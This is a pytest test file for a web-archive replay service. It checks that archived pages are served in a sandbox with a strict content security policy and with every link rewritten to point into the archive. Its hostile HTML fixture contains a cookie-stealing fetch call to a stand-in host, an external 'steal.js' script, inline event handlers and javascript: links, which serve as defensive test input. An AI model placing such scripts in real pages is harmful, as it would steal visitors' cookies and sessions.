"""Raw replay: served from the WARC, links into the archive, nothing live, sandboxed."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import lxml.html
import pytest
from django.test import Client

from kuaizhao.archive.ingest import ingest
from kuaizhao.archive.models import Article
from kuaizhao.lib.outlets import Outlet
from kuaizhao.warc.writer import WarcWriter
from tests.api.conftest import ARTICLE, IMG, T1
from tests.factories import TINY_PNG, Page, write_page

pytestmark = pytest.mark.django_db

EVIL = "http://news.test.example/gn/2024/0301/c666.html"
WHEN = datetime(2024, 3, 5, 7, 0, tzinfo=UTC)
HOSTILE = """<!doctype html><html><head><meta charset="gbk">
<base href="http://evil.example/base/">
<meta http-equiv="refresh" content="0;url=http://live.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="/site.css"><link rel="preload" href="http://live.example/x.js">
<style>body { background: url(http://live.example/bg.png) } @import "http://live.example/i.css";</style>
<script src="http://live.example/steal.js"></script>
<script>fetch('http://live.example/?c=' + document.cookie)</script>
</head><body onload="alert(document.cookie)">
<a href="/next.html">下一篇</a> <a href="javascript:alert(1)">点我</a> <a href="#top">顶部</a>
<img src="http://live.example/pixel.gif" srcset="a.png 1x, http://live.example/b.png 2x"
 onerror="x()">
<img src="data:image/png;base64,iVBORw0KGgo=">
<iframe src="http://live.example/frame"></iframe><object data="http://live.example/o.swf"></object>
<form action="http://live.example/post"><input type="image" src="http://live.example/btn.png"
 formaction="http://live.example/other"></form>
<div style="background-image:url('http://live.example/div.png')">正文</div>
<svg><a xlink:href="http://live.example/svg">svg</a></svg>
<video poster="http://live.example/poster.jpg"><source src="http://live.example/v.mp4"></video>
</body></html>"""
ALLOWED_PREFIXES = ("/web/", "#", "data:image/", "about:blank")


@pytest.fixture
def hostile(archive, home: Path, outlet: Outlet) -> str:
    with WarcWriter(home / "warc") as writer:
        write_page(writer, EVIL, HOSTILE.encode("gbk"), WHEN, mime="text/html; charset=gbk")
    ingest(home / "warc", [outlet])
    return f"/web/20240305070000if_/{EVIL}"


def test_an_html_memento_frames_the_page_in_a_sandbox(client: Client, archive):
    response = client.get(f"/web/20240305060000/{ARTICLE}")
    doc = lxml.html.fromstring(response.content)
    (frame,) = doc.iter("iframe")
    assert frame.get("src") == f"/web/20240305060000if_/{ARTICLE}"
    sandbox = frame.get("sandbox").split()
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    assert "存档回放" in response.content.decode()


def test_the_framed_page_is_sandboxed_and_runs_nothing(client: Client, hostile: str):
    response = client.get(hostile)
    assert response.status_code == 200
    policy = dict(
        [*part.strip().split(" ", 1), ""][:2]
        for part in response["Content-Security-Policy"].split(";")
    )
    assert "sandbox" in policy  # an opaque origin: no cookies, no storage of this site
    assert "allow-same-origin" not in policy["sandbox"] and "allow-scripts" not in policy["sandbox"]
    assert policy["default-src"] == "'none'" and "script-src" not in policy
    assert "connect-src" not in policy  # so it falls back to 'none'
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "Set-Cookie" not in response


def test_every_link_of_a_hostile_page_points_into_the_archive(client: Client, hostile: str):
    html = client.get(hostile).content.decode("utf-8")
    doc = lxml.html.fromstring(html)
    assert not doc.xpath("//base | //meta[@http-equiv]")
    for element in doc.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if name in ("href", "src", "action", "data", "poster", "formaction") or name.endswith(
                "}href"
            ):
                assert value.startswith(ALLOWED_PREFIXES), (element.tag, name, value)
            if name == "srcset":
                for candidate in value.split(","):
                    assert candidate.strip().startswith("/web/"), value
            if name == "style":
                for target in re.findall(r"url\(\s*['\"]?([^'\")]*)", value):
                    assert target.startswith(ALLOWED_PREFIXES), value
    assert 'href="/web/20240305070000/http://evil.example/next.html"' in html  # base applied
    assert "/web/20240305070000if_/http://live.example/bg.png" in html
    assert "正文" in html  # GBK decoded, served as UTF-8


def test_links_open_the_archived_target_in_the_whole_window(client: Client, hostile: str):
    doc = lxml.html.fromstring(client.get(hostile).content)
    (link,) = [a for a in doc.iter("a") if a.text == "下一篇"]
    assert link.get("target") == "_top"


def test_resources_come_from_the_archive_or_not_at_all(client: Client, archive):
    image = client.get(f"/web/20240305060000if_/{IMG}")
    assert image.status_code == 200 and image.content == TINY_PNG
    assert "sandbox" in image["Content-Security-Policy"]
    missing = client.get("/web/20240305060000if_/http://live.example/pixel.gif")
    assert missing.status_code == 404


def test_the_raw_bytes_are_exactly_what_was_captured(client: Client, hostile: str):
    response = client.get(f"/web/20240305070000id_/{EVIL}")
    assert response.content == HOSTILE.encode("gbk")
    assert response["Content-Type"] == "text/html; charset=gbk"
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert "default-src 'none'" in response["Content-Security-Policy"]


def test_a_revisit_replays_the_payload_it_stands_for(client: Client, archive):
    first = client.get(f"/web/20240305060000id_/{ARTICLE}").content
    revisit = client.get(f"/web/20240306060000id_/{ARTICLE}")
    assert revisit.status_code == 200 and revisit.content == first


def test_the_snapshot_page_links_to_the_replay(client: Client, archive):
    article = Article.objects.get(url=ARTICLE)
    html = client.get(f"/s/{article.id}").content.decode()
    assert f'href="/web/20240401123015/{ARTICLE}"' in html
    assert article.capture.payload_digest in html


def test_the_replay_bar_links_back_to_the_snapshot(client: Client, archive):
    article = Article.objects.get(url=ARTICLE)
    html = client.get(f"/web/20240305060000/{ARTICLE}").content.decode()
    assert f'href="/s/{article.id}"' in html
    assert T1.year == 2024 and Page(ARTICLE).title not in html  # the bar, not the article
